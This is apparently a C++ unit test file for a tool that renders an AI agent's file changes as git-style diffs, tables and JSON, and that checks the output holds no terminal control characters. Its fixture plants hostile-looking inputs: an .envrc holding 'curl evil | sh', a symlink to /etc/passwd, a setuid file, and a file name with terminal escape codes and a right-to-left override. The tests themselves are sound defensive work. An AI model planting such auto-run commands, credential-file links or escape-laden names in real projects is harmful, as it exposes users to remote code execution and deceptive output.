// What people read: golden texts, from a layer with something of everything.
#include "tools/pawl/changes/patch.hpp"

#include <fcntl.h>
#include <sys/stat.h>

#include <boost/json/serialize.hpp>
#include <catch2/catch.hpp>
#include <cstdlib>
#include <filesystem>

#include "tests/unit/tools/pawl/changes/layers.hpp"
#include "tools/pawl/changes/describe.hpp"

using namespace pawl;
using namespace pawl::changes;
using test::Layers;

namespace {

constexpr const char* kGolden = PAWL_SOURCE_ROOT "/tests/golden/changes";
const std::string kLong = "a line that is long enough to be known again\n";

void furnish(Layers& layers) {
  layers.host("src/main.c", "#include <stdio.h>\n\nint main(void) {\n\tputs(\"old\");\n\treturn 0;\n}\n");
  layers.host("src/moved.c", kLong);
  layers.host("script", "#!/bin/sh\n");
  layers.host("picture", std::string("\x89PNG\0old", 8));
  layers.host("gone/one", "1\n");
  layers.host("gone/two", "2");
  layers.host("conflict", "old\n");
  std::filesystem::create_symlink("src", layers.workspace("link"));
  layers.begin();
  layers.agent("src/main.c", "#include <stdio.h>\n\nint main(void) {\n\tputs(\"new\\n\");\n\treturn 0;\n}");
  layers.agent_removes("src/moved.c");
  layers.agent("lib/moved.c", kLong);
  layers.agent("script", "#!/bin/sh\n", 0755);
  layers.agent("picture", std::string("\x89PNG\0newer", 10));
  layers.agent_removes("gone");
  layers.agent_link("link", "/etc/passwd");
  layers.agent(".envrc", "curl evil | sh\n");
  layers.agent("evil\n\x1b[31mname", "\x1b]0;title\x07 and \xe2\x80\xae reversed\r\n");
  layers.agent_folder("empty");
  layers.agent("tool", "", 04755);
  REQUIRE(::mkfifo(layers.upper("fifo").c_str(), 0644) == 0);
  layers.agent("conflict", "agent\n");
  layers.host("conflict", "host\n");
}

std::string golden(const std::string& name, const std::string& text) {
  const std::string path = std::filesystem::path(kGolden) / name;
  if (std::getenv("PAWL_UPDATE_GOLDEN") != nullptr) {
    std::filesystem::create_directories(kGolden);
    test::write_file(path, text);
  }
  return test::read_file(path);
}

struct Opened {
  UniqueFd upper, workspace;
  explicit Opened(const Layers& layers)
      : upper(::open(layers.upper().c_str(), O_RDONLY | O_DIRECTORY)),
        workspace(::open(layers.workspace().c_str(), O_RDONLY | O_DIRECTORY)) {}
};

}  // namespace

TEST_CASE("a diff shows everything in git's form, with nothing in it that acts on a terminal") {
  Layers layers;
  furnish(layers);
  const Opened opened(layers);
  const ChangeSet set = layers.scan();
  Bodies bodies(opened.upper, opened.workspace, {.comparer = PAWL_HUNKS});
  std::string text;
  for (std::size_t i = 0; i < set.changes.size(); ++i)
    if (!goes_without_saying(set, i))
      text += patch_of(set.changes[i], bodies.of(set.changes[i]), Colour::off);
  CHECK(text == golden("diff.txt", text));
  for (const char c : text) CHECK((c == '\n' || c == '\t' || (c >= 0x20 && c < 0x7f)));
}

TEST_CASE("the table and the warnings") {
  Layers layers;
  furnish(layers);
  const Opened opened(layers);
  const ChangeSet set = layers.scan();
  Bodies bodies(opened.upper, opened.workspace, {.comparer = PAWL_HUNKS});
  const std::string text = stat_of(set, bodies) + warnings_of(set);
  CHECK(text == golden("stat.txt", text));
  for (const char c : text) CHECK((c == '\n' || (c >= 0x20 && c < 0x7f)));
}

TEST_CASE("JSON has the same keys for every change") {
  Layers layers;
  furnish(layers);
  layers.agent("bytes\xff", "x");
  const Opened opened(layers);
  ChangeSet set = layers.scan();
  set.left_out.push_back({"deep", "its path is too long"});
  add_digests(set, opened.upper, opened.workspace);
  std::string text;
  for (const boost::json::value& change : json_of(set)) text += boost::json::serialize(change) + "\n";
  CHECK(text == golden("changes.jsonl", text));
  for (const boost::json::value& change : json_of(set))
    CHECK(change.get_object().size() == json_of(set)[0].get_object().size());
}

TEST_CASE("what would be too long a diff says so") {
  Layers layers;
  layers.begin();
  layers.agent("a", std::string(600, 'x'));
  layers.agent("b", std::string(600, 'x'));
  const Opened opened(layers);
  const ChangeSet set = layers.scan();
  Bodies bodies(opened.upper, opened.workspace, {.budget = 1000, .comparer = PAWL_HUNKS});
  CHECK(bodies.of(set.changes[0]).form == Body::Form::text);
  const Body second = bodies.of(set.changes[1]);
  CHECK(patch_of(set.changes[1], second, Colour::off)
            .find("not shown, it is too large: nothing -> 600 bytes") != std::string::npos);
}

TEST_CASE("colours come only where they are asked for") {
  Layers layers;
  layers.begin();
  layers.agent("a", "x\n");
  const Opened opened(layers);
  const ChangeSet set = layers.scan();
  Bodies bodies(opened.upper, opened.workspace, {.comparer = PAWL_HUNKS});
  const Body body = bodies.of(set.changes[0]);
  CHECK(patch_of(set.changes[0], body, Colour::on).find("\x1b[32m+x\x1b[0m") != std::string::npos);
  CHECK(patch_of(set.changes[0], body, Colour::off).find('\x1b') == std::string::npos);
}
